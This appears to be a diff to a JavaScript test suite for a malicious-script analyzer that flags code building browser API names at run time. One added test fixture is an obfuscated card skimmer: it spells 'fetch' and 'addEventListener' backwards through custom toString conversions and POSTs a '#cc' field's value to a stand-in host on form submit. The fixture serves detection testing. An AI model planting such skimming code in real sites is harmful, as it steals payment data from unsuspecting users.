@@ -58,14 +58,26 @@ describe('what sends a file to the detonation chamber', () => {
   })(window, String.raw)`
   it('a script reaching browser APIs by names it builds on the global object', () => {
     expect(analyzeScript(built).triage ?? []).toContain(
-      'reads browser APIs off the global object by names it builds at run time',
+      'reads browser APIs off the global object or the document by names it builds at run time',
+    )
+  })
+  it('names held in variables that spell them from objects at run time, on window and document', () => {
+    // the names come out of objects' own conversions, which the evaluator does not run
+    const held = `!function (g, d) {
+      function P(s) { this.s = s } P.prototype.toString = function () { return this.s.split('').reverse().join('') }
+      var F = '' + new P('hctef'), Q = \`\${new P('rotceleSyreuq')}\`, A = '' + new P('renetsiLtnevEdda')
+      d[A]('submit', function () { g[F]('https://m.example/c', { method: 'POST', body: d[Q]('#cc').value }) }, true)
+      d[A]('change', function () {}, true); d[A]('blur', function () {}, true)
+    }(window, document)`
+    expect(analyzeScript(held).triage ?? []).toContain(
+      'reads browser APIs off the global object or the document by names it builds at run time',
     )
   })
   it('not a script reading globals by a name it was given', () => {
     const given = `function lookup(name) { return window[name] || self[name] || globalThis[name] }
       lookup('jQuery'); lookup('Zepto'); lookup('Sizzle'); lookup('ender')`
     expect(analyzeScript(given).triage ?? []).not.toContain(
-      'reads browser APIs off the global object by names it builds at run time',
+      'reads browser APIs off the global object or the document by names it builds at run time',
     )
   })
 })
